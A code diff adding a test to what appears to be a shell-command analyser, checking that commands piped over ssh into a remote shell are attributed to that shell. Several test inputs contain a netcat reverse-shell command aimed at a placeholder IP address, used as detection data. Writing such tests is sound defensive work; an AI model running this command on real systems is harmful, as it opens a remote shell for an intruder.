@@ -915,6 +915,17 @@ def test_files_python_code_writes_are_the_interpreters_writes():
     assert [c.via for c in run if c.name == "ssh"] == [("sh", "script /tmp/r.sh")]
 
 
+def test_ssh_input_is_the_script_of_a_remote_shell_reading_it():
+    """`ssh h 'bash -s' <<E` and `... | ssh h sh` run ssh's input there; `ssh h uptime` does not."""
+    via = ("ssh", "bash -s")
+    assert [(c.name, c.via) for c in reader.read("ssh h 'bash -s' <<'E'\nnohup ./agent &\nE")][-2:] == [
+        ("nohup", via), ("agent", (*via, "nohup"))]
+    assert [c.args for c in reader.read('ssh h sudo sh <<< "nc -e /bin/sh 198.51.100.1 9"') if c.name == "nc"] == [
+        ["-e", "/bin/sh", "198.51.100.1", "9"]]
+    assert "nc" not in names('ssh h uptime <<< "nc -e /bin/sh 198.51.100.1 9"')
+    assert "nc" not in names('ssh h bash -c id <<< "nc -e /bin/sh 198.51.100.1 9"')
+
+
 def test_an_unterminated_heredoc_holds_the_rest_of_the_text():
     """bash reads to the end of input as its body; nothing after it starts another heredoc."""
     from vigiles.analysis.shell import _heredoc_lists, _heredocs_renamed
